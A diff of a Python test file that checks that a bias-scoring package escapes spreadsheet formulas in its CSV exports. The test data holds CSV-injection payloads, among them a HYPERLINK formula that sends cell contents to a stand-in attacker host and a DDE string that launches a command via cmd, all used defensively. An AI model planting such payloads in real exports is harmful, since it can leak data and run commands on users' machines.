@@ -13,8 +13,6 @@ from evenhand.evaluation.csv_files import csv_text
 from evenhand.evaluation.data.response_files import write_prompt_table
 from evenhand.evaluation.errors import InputError
 from evenhand.evaluation.score import PERSONA, PROMPT_ID, TEXT, BiasScore, write_scores
-from evenhand.recipes.sweep.published import csv_table
-from evenhand.recipes.sweep.summary import THRESHOLD_COLUMNS
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", " \t=1", "'=1"]
 ROOT = Path(__file__).resolve().parents[2]
@@ -27,12 +25,9 @@ def cells(text):
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_no_cell_and_no_heading_is_a_formula(formula, tmp_path):
     write_scores(tmp_path / "scores.json", [BiasScore("scgb", 0.1, 0.0, (0.0, 1.0), n=1, group={formula: formula})])
-    row = {"label": formula, **dict.fromkeys(THRESHOLD_COLUMNS, math.nan)}
-    row |= {f"scgb: {formula}{end}": 0.001 for end in ("", "_low", "_high")}
     for text in (
         csv_text(["a", formula], [{"a": formula, formula: -0.5}]),
         (tmp_path / "scores.csv").read_text(encoding="utf-8"),
-        csv_table([row], {f"scgb: {formula}": formula}),
     ):
         found = cells(text)
         assert f"'{formula}" in found
